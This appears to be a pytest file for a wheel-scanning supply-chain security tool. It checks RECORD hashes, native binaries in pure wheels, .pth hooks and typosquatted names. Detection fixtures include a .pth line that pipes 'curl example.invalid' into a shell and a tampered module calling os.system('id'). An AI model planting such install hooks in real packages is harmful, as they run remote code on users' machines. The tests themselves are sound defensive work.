"""Tests for the wheel member checks."""

from __future__ import annotations

import base64
import hashlib
import io
import struct
import zipfile
from pathlib import Path

import pytest

from attestgate.deps import config
from attestgate.deps.wheel import native_kind, scan_wheel_members
from attestgate.findings import Finding, Severity
from attestgate.scanners.interface import ScanContext

ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 57
MACHO = b"\xcf\xfa\xed\xfe" + b"\0" * 28
PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\0" * 20
JAVA_CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 8
FAT_MACHO = b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\0" * 8


def record_hash(data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"sha256={digest}"


def build_wheel(
    files: dict[str, bytes],
    *,
    name: str = "demo_pkg",
    version: str = "1.0.0",
    tag: str = "py3-none-any",
    purelib: bool = True,
    unrecorded: dict[str, bytes] | None = None,
    record_override: dict[str, str] | None = None,
) -> dict[str, bytes]:
    """Return the members of a wheel whose RECORD matches ``files``."""
    dist_info = f"{name}-{version}.dist-info"
    members = dict(files)
    members[f"{dist_info}/METADATA"] = (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        "Requires-Dist: numpy>=1.26\n\nA demo package.\nRequires-Dist: ignored\n"
    ).encode()
    members[f"{dist_info}/WHEEL"] = (
        "Wheel-Version: 1.0\nGenerator: setuptools (75.1.0)\n"
        f"Root-Is-Purelib: {'true' if purelib else 'false'}\nTag: {tag}\n"
    ).encode()
    rows = [f"{path},{record_hash(data)},{len(data)}" for path, data in members.items()]
    rows.append(f"{dist_info}/RECORD,,")
    record = "\n".join(rows) + "\n"
    for path, row in (record_override or {}).items():
        record = "\n".join(
            row if line.startswith(f"{path},") else line for line in record.splitlines()
        )
    members[f"{dist_info}/RECORD"] = record.encode()
    members.update(unrecorded or {})
    return members


def scan(members: dict[str, bytes], file: str = "demo_pkg-1.0.0-py3-none-any.whl") -> list[Finding]:
    return scan_wheel_members(list(members), members.__getitem__, ScanContext(file, None))


def rules(findings: list[Finding]) -> dict[str, Severity]:
    found: dict[str, Severity] = {}
    for finding in findings:
        found[finding.rule] = max(found.get(finding.rule, Severity.INFO), finding.severity)
    return found


PURE = {"demo_pkg/__init__.py": b"VERSION = '1.0.0'\n", "demo_pkg/core.py": b"def f():\n    pass\n"}


def test_clean_pure_wheel() -> None:
    assert scan(build_wheel(PURE)) == []


def test_not_a_wheel() -> None:
    assert scan({"a.txt": b"x"}) == []


def test_modified_member_is_high() -> None:
    members = build_wheel(PURE)
    members["demo_pkg/core.py"] = b"import os; os.system('id')\n"
    findings = scan(members)
    assert rules(findings) == {"deps.record-mismatch": Severity.HIGH}
    assert (
        "demo_pkg/core.py: its sha256 hash differs from RECORD" in findings[0].details["problems"]
    )


def test_unlisted_member_is_high() -> None:
    members = build_wheel(PURE, unrecorded={"demo_pkg/extra.py": b"print(1)\n"})
    findings = scan(members)
    assert findings[0].details["problems"] == ["demo_pkg/extra.py: it is not listed in RECORD"]


def test_missing_member_is_high() -> None:
    members = build_wheel(PURE)
    del members["demo_pkg/core.py"]
    findings = scan(members)
    assert findings[0].details["problems"] == [
        "demo_pkg/core.py: listed in RECORD but missing from the wheel"
    ]


def test_size_mismatch() -> None:
    data = PURE["demo_pkg/core.py"]
    override = {"demo_pkg/core.py": f"demo_pkg/core.py,{record_hash(data)},{len(data) + 1}"}
    findings = scan(build_wheel(PURE, record_override=override))
    assert "differs from RECORD's" in findings[0].details["problems"][0]


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        ("demo_pkg/core.py,,", "without a hash"),
        ("demo_pkg/core.py,md5=abc,10", "unsupported hash algorithm 'md5'"),
        ("demo_pkg/core.py,sha256=!!!,10", "invalid hash value"),
    ],
)
def test_bad_record_rows(row: str, problem: str) -> None:
    findings = scan(build_wheel(PURE, record_override={"demo_pkg/core.py": row}))
    assert problem in findings[0].details["problems"][0]


def test_missing_record() -> None:
    members = build_wheel(PURE)
    del members["demo_pkg-1.0.0.dist-info/RECORD"]
    findings = scan(members)
    assert findings[0].rule == "deps.record-mismatch"
    assert "RECORD: missing" in findings[0].details["problems"][0]


def test_signature_files_exempt() -> None:
    members = build_wheel(PURE, unrecorded={"demo_pkg-1.0.0.dist-info/RECORD.jws": b"{}"})
    assert scan(members) == []


def test_unreadable_member_reported() -> None:
    members = build_wheel(PURE)

    def read(name: str) -> bytes:
        if name == "demo_pkg/core.py":
            raise zipfile.BadZipFile("Bad CRC-32")
        return members[name]

    findings = scan_wheel_members(list(members), read, ScanContext("demo.whl", None))
    assert "could not be read (Bad CRC-32)" in findings[0].details["problems"][0]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("demo_pkg/_speedups.so", b"not really elf"),
        ("demo_pkg/helper.bin", ELF),
        ("demo_pkg/lib.dylib", MACHO),
        ("demo_pkg/tool.dat", PE),
        ("demo_pkg/_ext.pyd", b"x"),
        ("demo_pkg/libfoo.so.1.2", b"x"),
        ("demo_pkg/fat", FAT_MACHO),
    ],
)
def test_native_in_pure_wheel_is_high(name: str, data: bytes) -> None:
    findings = scan(build_wheel({**PURE, name: data}))
    assert rules(findings) == {"deps.native-in-pure-wheel": Severity.HIGH}
    assert findings[0].file == f"demo_pkg-1.0.0-py3-none-any.whl:{name}"


def test_native_in_platform_wheel_not_reported() -> None:
    tag = "cp311-cp311-manylinux_2_17_x86_64"
    members = build_wheel({**PURE, "demo_pkg/_c.so": ELF}, tag=tag, purelib=False)
    assert scan(members, f"demo_pkg-1.0.0-{tag}.whl") == []


def test_purelib_flag_with_platform_tag_is_low() -> None:
    tag = "py3-none-manylinux2014_x86_64"
    members = build_wheel({**PURE, "demo_pkg/lib/libcublas.so.12": ELF}, tag=tag, purelib=True)
    assert rules(scan(members, f"demo_pkg-1.0.0-{tag}.whl")) == {
        "deps.native-in-pure-wheel": Severity.LOW
    }


def test_filename_tag_counts() -> None:
    # WHEEL claims a platform, but the file name says any platform.
    tag = "cp311-cp311-manylinux_2_17_x86_64"
    members = build_wheel({**PURE, "demo_pkg/_c.so": ELF}, tag=tag, purelib=False)
    assert rules(scan(members, "demo_pkg-1.0.0-py3-none-any.whl")) == {
        "deps.native-in-pure-wheel": Severity.HIGH
    }


def test_known_launcher_is_info() -> None:
    files = {"pip/__init__.py": b"", "pip/_vendor/distlib/t64.exe": PE}
    members = build_wheel(files, name="pip", version="24.2")
    findings = scan(members, "pip-24.2-py3-none-any.whl")
    assert rules(findings) == {"deps.native-in-pure-wheel": Severity.INFO}


def test_launcher_name_in_other_package_is_high() -> None:
    members = build_wheel({**PURE, "pip/_vendor/distlib/t64.exe": PE})
    assert rules(scan(members)) == {"deps.native-in-pure-wheel": Severity.HIGH}


def test_pth_with_import_is_high() -> None:
    pth = b"import os; os.system('curl example.invalid | sh')\n"
    findings = scan(build_wheel({**PURE, "demo_hook.pth": pth}))
    assert rules(findings) == {"deps.pth-file": Severity.HIGH}
    assert findings[0].details["runs_code"] is True


def test_pth_with_paths_only_is_medium() -> None:
    findings = scan(build_wheel({**PURE, "demo_paths.pth": b"demo_pkg/vendor\n"}))
    assert rules(findings) == {"deps.pth-file": Severity.MEDIUM}


def test_pth_in_data_purelib_reported() -> None:
    members = build_wheel({**PURE, "demo_pkg-1.0.0.data/purelib/hook.pth": b"import demo_pkg\n"})
    assert rules(scan(members)) == {"deps.pth-file": Severity.HIGH}


def test_checkpoint_named_pth_not_reported() -> None:
    checkpoint = b"PK\x03\x04" + b"\0" * 40
    assert scan(build_wheel({**PURE, "demo_pkg/weights/model.pth": checkpoint})) == []


def test_two_dist_info_folders() -> None:
    members = build_wheel(PURE)
    members["other-1.0.dist-info/WHEEL"] = b"Wheel-Version: 1.0\n"
    assert rules(scan(members)) == {"deps.malformed": Severity.MEDIUM}


def test_typosquat_wheel_name() -> None:
    members = build_wheel(PURE, name="reqeusts", version="2.32.3")
    findings = scan(members, "reqeusts-2.32.3-py3-none-any.whl")
    assert rules(findings) == {"deps.typosquat": Severity.HIGH}


def test_wheel_version_checked_against_osv(
    osv_folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(config.OSV_DB_VARIABLE, str(osv_folder))
    members = build_wheel(PURE, name="examplepkg", version="1.1.0")
    findings = scan(members, "examplepkg-1.1.0-py3-none-any.whl")
    assert rules(findings) == {"deps.known-vulnerable": Severity.HIGH}


def test_requires_dist_typosquat() -> None:
    members = build_wheel(PURE)
    metadata = b"Metadata-Version: 2.1\nName: demo_pkg\nRequires-Dist: torhc>=2.0\n"
    members["demo_pkg-1.0.0.dist-info/METADATA"] = metadata
    findings = scan(members)
    assert "deps.typosquat" in rules(findings)


def test_real_zip_roundtrip() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for path, data in build_wheel({**PURE, "demo_pkg/_c.so": ELF}).items():
            archive.writestr(path, data)
    with zipfile.ZipFile(buffer) as archive:
        findings = scan_wheel_members(
            archive.namelist(), archive.read, ScanContext("demo_pkg-1.0.0-py3-none-any.whl", None)
        )
    assert rules(findings) == {"deps.native-in-pure-wheel": Severity.HIGH}


def test_deadline_marks_incomplete() -> None:
    ctx = ScanContext("demo.whl", None, deadline=1.0)
    findings = scan_wheel_members(list(build_wheel(PURE)), build_wheel(PURE).__getitem__, ctx)
    assert rules(findings)["deps.wheel-check-incomplete"] is Severity.MEDIUM


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("x", ELF, "ELF binary"),
        ("x", MACHO, "Mach-O binary"),
        ("x", FAT_MACHO, "Mach-O universal binary"),
        ("x", PE, "PE (Windows) binary"),
        ("x", JAVA_CLASS, None),
        ("x", b"MZ" + b"\0" * 100, None),
        ("readme.txt", b"plain text", None),
    ],
)
def test_native_kind(name: str, data: bytes, kind: str | None) -> None:
    assert native_kind(name, data) == kind
